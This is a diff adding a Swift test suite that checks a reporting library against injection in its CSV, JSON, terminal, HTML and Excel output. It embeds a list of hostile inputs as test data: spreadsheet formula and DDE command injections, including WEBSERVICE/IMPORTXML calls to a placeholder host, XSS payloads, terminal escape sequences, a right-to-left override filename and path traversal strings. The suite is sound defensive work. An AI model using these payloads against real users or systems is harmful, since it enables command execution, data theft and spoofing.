@@ -1,0 +1,119 @@
+import Foundation
+import Reporting
+import Testing
+
+/// Names that attack whatever shows them.
+enum Payloads {
+  /// Spreadsheets would evaluate these.
+  static let formulas = [
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
+    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
+    "-2+3+cmd|' /C x'!A0",
+    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u{3000}=1+1",
+    "\u{A0}@x", "\u{FEFF}=1+1", "\u{200B}=1+1", "+A1", "-A1", "=\u{0}1", "=1+1\";=2+2",
+    "=A1,\"=B1\"",
+  ]
+  static let markup = [
+    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</td></table><b>",
+    "&lt;b&gt;&amp;",
+    "<svg/onload=alert(1)>", "'onmouseover='alert(1)", "]]><x>", "javascript:alert(1)",
+  ]
+  static let terminal = [
+    "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{9B}31m", "a\u{8}b", "\u{202E}txt.exe", "a\rb", "\u{7F}",
+  ]
+  static let paths = [
+    "../../etc/passwd", "/etc/passwd", "a/b", "C:\\x", "..", ".", "-o", "nul\u{0}", "%2e%2e%2f",
+  ]
+  static let all = formulas + markup + terminal + paths
+}
+
+@Suite struct InjectionTests {
+  private func table(_ text: String) -> ResultTable {
+    ResultTable(name: "t", columns: ["unit", "x"], rows: [[.text(text), .integer(-1)]])
+  }
+
+  @Test func `there are more than forty payloads`() { #expect(Payloads.all.count >= 40) }
+
+  @Test(arguments: Payloads.formulas)
+  func `no text cell of a CSV begins like a formula`(payload: String) {
+    #expect(spreadsheetSafe(payload).hasPrefix("'"))
+    #expect(table(payload).csvText.contains("'"))
+  }
+
+  @Test(arguments: ["-3", "+2.5", "-1e-5", "-.5", "12", "单位001", "a-b", "x=1", "2015-06"])
+  func `plain numbers and plain text stay`(text: String) {
+    #expect(spreadsheetSafe(text) == text)
+  }
+
+  @Test func `numbers of numeric columns are untouched`() {
+    let table = ResultTable(
+      name: "t", columns: ["x", "y"], rows: [[.number(-1.5, decimals: 2), .integer(-3)]])
+    #expect(table.csvText == "x,y\n-1.50,-3\n")
+  }
+
+  @Test func `a heading is text too`() {
+    let table = ResultTable(name: "t", columns: ["=x"], rows: [])
+    #expect(table.csvText == "'=x\n")
+  }
+
+  @Test(arguments: Payloads.all)
+  func `JSON keeps the true text and no control character`(payload: String) throws {
+    let json = table(payload).jsonText
+    #expect(
+      !json.unicodeScalars.contains { $0.properties.generalCategory == .control && $0 != "\n" })
+    let rows = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]]
+    #expect(rows?.first?["unit"] as? String == payload)
+  }
+
+  @Test(arguments: Payloads.all)
+  func `a terminal gets no control character but line ends`(payload: String) {
+    let lines = table(payload).terminalText.split(separator: "\n")
+    let safe = lines.joined().unicodeScalars.allSatisfy {
+      $0.properties.generalCategory != .control && $0 != "\u{202E}"
+    }
+    #expect(lines.count == 2 && safe)
+  }
+
+  @Test(arguments: Payloads.all)
+  func `markup is text in the page`(payload: String) {
+    let page = HTMLReport(
+      title: payload, subtitle: payload,
+      sections: [.init(title: payload, answer: payload, tables: [table(payload)], caution: payload)]
+    ).text(vega: nil)
+    let bare = HTMLReport(
+      title: "", subtitle: "",
+      sections: [.init(title: "", answer: "", tables: [table("")], caution: "")]
+    ).text(vega: nil)
+    func tags(_ text: String) -> Int { text.count { $0 == "<" } }
+    let added = tags(page) - tags(bare)
+    #expect(added == 0)
+  }
+
+  @Test func `a workbook holds every payload as text, on sheets of legal names`() throws {
+    let sheets = Payloads.all.map { payload in
+      var sheet = SheetDraft(
+        name: payload, headings: [.init(payload, note: payload)], rows: [[.text(payload)]])
+      sheet.marks = [.init(row: 1, column: 0, colour: .red, comment: payload)]
+      sheet.entryRules = [
+        EntryRule(column: 0, rows: 1...9, allowed: .list(["a"]), message: payload)
+      ]
+      return sheet
+    }
+    var book = WorkbookDraft(title: Payloads.all.joined(), sheets: sheets)
+    book.sheets[0].links = sheets.indices.dropFirst().map { (0, $0) }
+    let archive = try Archive(book.bytes())
+    defer { archive.remove() }
+    let entries = try archive.entries()
+    #expect(entries.allSatisfy { !$0.contains("..") && !$0.hasPrefix("/") })
+    for number in 1...sheets.count {
+      let xml = try archive.text("xl/worksheets/sheet\(number).xml")
+      #expect(!xml.contains("<f>"))
+    }
+    for entry in [
+      "xl/workbook.xml", "xl/sharedStrings.xml", "xl/comments1.xml", "docProps/core.xml",
+    ] {
+      let xml = try archive.text(entry)
+      #expect(XMLParserCheck.isWellFormed(xml), "\(entry)")
+    }
+  }
+}
